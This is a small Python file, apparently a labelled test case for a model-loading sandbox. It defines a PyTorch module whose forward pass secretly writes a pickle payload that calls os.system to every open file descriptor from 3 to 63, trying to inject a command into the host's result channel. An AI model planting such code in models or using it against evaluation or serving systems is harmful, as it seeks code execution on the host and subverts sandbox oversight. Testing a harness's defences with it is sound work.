# outcome: 2 sent something that is no result
import os
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(8, 8, 1)

    def forward(self, x):
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, b"cos\nsystem\n(S'echo run'\ntR.\n")
            except OSError:
                pass
        return self.conv(x)
